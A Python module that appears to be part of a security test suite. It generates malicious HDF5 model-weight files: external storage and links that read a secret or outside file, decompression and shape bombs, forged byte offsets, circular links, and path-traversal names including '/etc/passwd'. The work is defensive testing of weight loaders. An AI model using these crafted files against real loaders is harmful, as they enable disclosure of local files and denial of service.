"""HDF5 files that point elsewhere, declare what they don't hold, or lead in circles.

Each attack gives a function of an open file and the path of a group with the weights ``"0"`` and
``"1"`` (in Keras 2's layout ``"kernel"`` and ``"bias"``), which spoils that group.
"""

import struct
import zlib
from pathlib import Path

import h5py
import numpy as np
from security.attacks import attacks_of

PACKED = zlib.compress(bytes(4 * 2**8 * 2**12))  # a chunk of zeros
# Where what only doesn't fit is left as it is, with a warning.
MISFITS = ("load_weights with skip_mismatch", "load_model .h5, the optimizer's")


def weight(group):
    """Name of the weight to spoil: the largest one, which may be a slot of the optimizer."""
    names = [name for name in group if isinstance(group[name], h5py.Dataset)]
    return max(names, key=lambda name: group[name].size)


@attacks_of("hdf5")
def spoils(function, place):
    """Enter an attack on one weight: the function gets its group, its name, and the place."""

    def spoil(file, path):
        group = file[path]
        key = weight(group)
        function(group, key, group[key].shape, place)

    return spoil


# --- Other files: CVE-2026-1669, CVE-2026-9335, CVE-2026-12480


@spoils("CVE-2026-1669 external storage")
def external(group, key, shape, place):
    del group[key]
    file = [(str(place.secret), 0, h5py.h5f.UNLIMITED)]
    group.create_dataset(key, shape, "float32", external=file)


@spoils("CVE-2026-1669 external storage by a relative path")
def external_relative(group, key, shape, place):
    del group[key]
    group.create_dataset(key, shape, "float32", external=[("../../outside/secret.txt", 0, 48)])


@spoils("CVE-2026-1669 external storage in many pieces")
def external_pieces(group, key, shape, place):
    del group[key]
    pieces = [(str(place.secret), offset, 4) for offset in range(int(np.prod(shape)))]
    group.create_dataset(key, shape, "float32", external=pieces)


def other_file(place, shape):
    path = place.outside / "other.h5"
    if not path.exists():
        with h5py.File(path, "w") as file:
            file["0"] = np.ones(shape, "float32")
            file.create_group("group")["0"] = np.ones(shape, "float32")
    return str(path)


@spoils("CVE-2026-9335 external link to a weight")
def external_link(group, key, shape, place):
    del group[key]
    group[key] = h5py.ExternalLink(other_file(place, shape), "/0")


@spoils("CVE-2026-9335 external link to a group")
def external_group(group, key, shape, place):
    parent, name = group.parent, group.name.rpartition("/")[2]
    del parent[name]
    parent[name] = h5py.ExternalLink(other_file(place, shape), "/group")


@spoils("CVE-2026-9335 external link at the top")
def external_top(group, key, shape, place):
    file = group.file
    for name in list(file):
        del file[name]
        file[name] = h5py.ExternalLink(other_file(place, shape), "/group")


@spoils("CVE-2026-9335 soft link to a weight")
def soft_link(group, key, shape, place):
    group.move(key, "moved")
    group[key] = h5py.SoftLink(f"{group.name}/moved")


@spoils("CVE-2026-9335 soft link to a group")
def soft_group(group, key, shape, place):
    parent, name = group.parent, group.name.rpartition("/")[2]
    parent.move(name, "moved")
    parent[name] = h5py.SoftLink(f"{parent.name}/moved")


@spoils("CVE-2026-9335 soft link to itself")
def soft_circle(group, key, shape, place):
    del group[key]
    group[key] = h5py.SoftLink(f"{group.name}/{key}")


@spoils("CVE-2026-12480 virtual dataset of another file")
def virtual(group, key, shape, place):
    del group[key]
    layout = h5py.VirtualLayout(shape, "float32")
    layout[...] = h5py.VirtualSource(other_file(place, shape), "0", shape)
    group.create_virtual_dataset(key, layout)


@spoils("CVE-2026-12480 virtual dataset of its own file")
def virtual_own(group, key, shape, place):
    group.move(key, "moved")
    layout = h5py.VirtualLayout(shape, "float32")
    layout[...] = h5py.VirtualSource(".", f"{group.name}/moved", shape)
    group.create_virtual_dataset(key, layout)


# --- Sizes: CVE-2026-0897, CVE-2026-12570


@spoils("CVE-2026-0897 shape bomb of no chunks")
def chunked_bomb(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2**30, 2**10), "float32", chunks=(64, 64), compression="gzip")


@spoils("CVE-2026-0897 shape bomb of no bytes")
def late_bomb(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2**30, 2**10), "float32")


@spoils("CVE-2026-0897 shape bomb that overflows")
def overflow_bomb(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2**31, 2**31, 2), "float32", chunks=(16, 16, 2))


@spoils("CVE-2026-12570 bomb of well packed chunks", MISFITS)
def packed_bomb(group, key, shape, place):
    del group[key]
    made = group.create_dataset(key, (2**11, 2**12), "f4", chunks=(2**8, 2**12), compression="gzip")
    for row in range(0, 2**11, 2**8):  # 32 MiB in some ten kB
        made.id.write_direct_chunk((row, 0), PACKED)


@spoils("CVE-2026-0897 chunk larger than memory")
def chunk_bomb(group, key, shape, place):
    del group[key]
    chunks, most = (2**14,) * len(shape), (None,) * len(shape)
    group.create_dataset(key, shape, "float32", chunks=chunks, maxshape=most, compression="gzip")


@spoils("CVE-2026-0897 bomb with a fill value")
def fill_bomb(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2**28,), "float64", fillvalue=1.5, chunks=(2**10,))


@spoils("CVE-2026-0897 many dimensions")
def many_dimensions(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2,) * 32, "float32", chunks=(1,) * 32)


@spoils("CVE-2026-0897 the right shape without data", ("*",))
def right_shape_no_data(group, key, shape, place):
    del group[key]
    group.create_dataset(key, shape, "float32")


@spoils("CVE-2026-0897 an attribute larger than the file", ("*",))
def attribute_bomb(group, key, shape, place):
    for owner in (group, group.parent, group.file):
        for name in ("name", "weight_names", "layer_names", "model_config", "dtype"):
            if name in owner.attrs:
                del owner.attrs[name]
            space = h5py.h5s.create_simple((2**28,))
            try:
                h5py.h5a.create(owner.id, name.encode(), h5py.h5t.IEEE_F64LE, space)
            except (OSError, RuntimeError, ValueError):
                owner.attrs[name] = np.zeros(8000)


@spoils("CVE-2026-0897 a type larger than memory")
def type_bomb(group, key, shape, place):
    del group[key]
    group.create_dataset(key, (2,), "S2147483640", chunks=(1,))


@spoils("keras#23303 a bomb beside the weights, which an editor reads too", ("*",))
def unread_bomb(group, key, shape, place):
    group.create_dataset("2", (2**30, 2**10), "float32", chunks=(64, 64), compression="gzip")
    group.file.create_dataset("left over", (2**40,), "float64")
    group.file.create_group("layers/extra/vars").create_dataset("0", (2**31, 2**31), "int8")


@spoils("keras#23303 a bomb of texts beside the weights", ("*",))
def unread_texts(group, key, shape, place):
    group.create_dataset("texts", (2**34,), h5py.string_dtype())


# --- Places


def lying_at(group, key, place):
    """Say that the bytes of a weight lie elsewhere in the file."""
    group.file.flush()
    path, found = Path(group.file.filename), group[key].id.get_offset()
    content = path.read_bytes()
    with open(path, "r+b") as file:
        file.seek(content.index(struct.pack("<Q", found)))
        file.write(struct.pack("<Q", place % 2**64))


@spoils("HDF5 a weight that lies behind the end")
def far_weight(group, key, shape, place):
    lying_at(group, key, 2**40)


@spoils("HDF5 a weight that lies partly behind the end")
def reaching_weight(group, key, shape, place):
    group.file.flush()
    lying_at(group, key, Path(group.file.filename).stat().st_size - 8)


@spoils("HDF5 a weight whose place overflows")
def overflowing_weight(group, key, shape, place):
    lying_at(group, key, -8)


@spoils("HDF5 a weight that is the header of its file", ("*",))
def header_as_weight(group, key, shape, place):
    lying_at(group, key, 0)


# --- Types and filters


@spoils("HDF5 numbers in the other order of bytes", ("*",))
def other_order(group, key, shape, place):
    del group[key]
    group[key] = np.zeros(shape, ">f4")


@spoils("HDF5 numbers wider than torch's", MISFITS)
def long_doubles(group, key, shape, place):
    del group[key]
    group[key] = np.zeros(shape, np.longdouble)


@spoils("HDF5 texts of any length")
def texts(group, key, shape, place):
    del group[key]
    group.create_dataset(key, shape, h5py.string_dtype())


@spoils("HDF5 references")
def references(group, key, shape, place):
    del group[key]
    data = np.full(shape, group.ref, dtype=h5py.ref_dtype)
    group.create_dataset(key, data=data, dtype=h5py.ref_dtype)


@spoils("HDF5 records")
def records(group, key, shape, place):
    del group[key]
    group.create_dataset(key, shape, [("a", "f4"), ("b", h5py.vlen_dtype("i4"))])


@spoils("HDF5 opaque data that say they are bfloat16", ("*",))
def opaque(group, key, shape, place):
    del group[key]
    group.create_dataset(key, data=np.zeros(shape, "V2")).attrs["dtype"] = "bfloat16"


@spoils("HDF5 an enumeration", ("*",))
def enumeration(group, key, shape, place):
    del group[key]
    group.create_dataset(key, shape, h5py.enum_dtype({"a": 1}, "i4"))


@spoils("HDF5 a filter that isn't there")
def unknown_filter(group, key, shape, place):
    del group[key]
    plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    plan.set_chunk(shape)
    plan.set_filter(32_001, h5py.h5z.FLAG_OPTIONAL, (0,) * 7)
    space = h5py.h5s.create_simple(shape)
    h5py.h5d.create(group.id, key.encode(), h5py.h5t.IEEE_F32LE, space, plan)


@spoils("HDF5 another filter of the library")
def lzf(group, key, shape, place):
    del group[key]
    group.create_dataset(key, data=np.zeros(shape, "f4"), chunks=shape, compression="lzf")


@spoils("HDF5 scaled offsets")
def scale_offset(group, key, shape, place):
    del group[key]
    group.create_dataset(key, data=np.zeros(shape, "f4"), chunks=shape, scaleoffset=2)


@spoils("HDF5 a scalar without data")
def null_space(group, key, shape, place):
    del group[key]
    group[key] = h5py.Empty("f4")


@spoils("HDF5 a type in place of a weight")
def committed_type(group, key, shape, place):
    del group[key]
    group[key] = np.dtype("f4")


@spoils("HDF5 a group in place of a weight", MISFITS)
def group_for_weight(group, key, shape, place):
    del group[key]
    group.create_group(key)


@spoils("HDF5 another shape", MISFITS)
def other_shape(group, key, shape, place):
    del group[key]
    group[key] = np.zeros((7, 7, 7), "f4")


@spoils("HDF5 complex numbers", ("*",))
def complex_numbers(group, key, shape, place):
    del group[key]
    group[key] = np.zeros(shape, "c16")


@spoils("HDF5 bytes", ("*",))
def short_texts(group, key, shape, place):
    del group[key]
    group[key] = np.full(shape, b"x", "S3")


# --- Circles and names


@spoils("HDF5 a group within itself", ("*",))
def circle(group, key, shape, place):
    group["vars"] = group
    group["layers"] = group.file["/"]
    group.parent["dense"] = group.parent


@spoils("HDF5 no group at all", MISFITS)
def nothing(group, key, shape, place):
    file = group.file
    for name in list(file):
        del file[name]


@spoils("CVE-2026-12479 names that lead upwards", ("*",))
def names(group, key, shape, place):
    for name in ("..", "../../outside/written.txt", ".hidden", "a\\b", "x" * 5000):
        group.file.require_group(name if "/" not in name else name.replace("/", "\\"))


@spoils("CVE-2026-12479 a list of weights that lead elsewhere", ("*",))
def listed_elsewhere(group, key, shape, place):
    for owner in (group, group.parent, group.parent.parent or group.file, group.file):
        for name in ("weight_names", "layer_names"):
            if name in owner.attrs:
                owner.attrs[name] = [b"../../secret", b"/etc/passwd", b"", b"/"]


@spoils("HDF5 names of weights that are numbers", ("*",))
def numbered_names(group, key, shape, place):
    for owner in (group, group.parent, group.file):
        for name in ("weight_names", "layer_names", "model_config", "training_config", "name"):
            if name in owner.attrs:
                owner.attrs[name] = 7


@spoils("HDF5 names of weights of any length", ("*",))
def long_names(group, key, shape, place):
    for owner in (group, group.parent, group.file):
        for name in ("weight_names", "layer_names"):
            if name in owner.attrs:
                texts = np.array(["x" * 10_000] * 50, dtype=object)
                owner.attrs.create(name, texts, dtype=h5py.string_dtype())


@spoils("HDF5 names of weights without end", ("*",))
def endless_names(group, key, shape, place):
    for owner in (group.parent, group.file["/"]):
        if "layer_names" in owner.attrs or "weight_names" in owner.attrs:
            for number in range(3000):
                owner.attrs[f"layer_names{number}"] = [b"a"]


@spoils("HDF5 the configuration that isn't JSON", ("*",))
def damaged_configuration(group, key, shape, place):
    for name in ("model_config", "training_config"):
        if name in group.file.attrs:
            group.file.attrs[name] = "{" * 5000


@spoils("HDF5 the training configuration is a list", ("*",))
def listed_training(group, key, shape, place):
    if "training_config" in group.file.attrs:
        group.file.attrs["training_config"] = "[[1, 2], {}]"
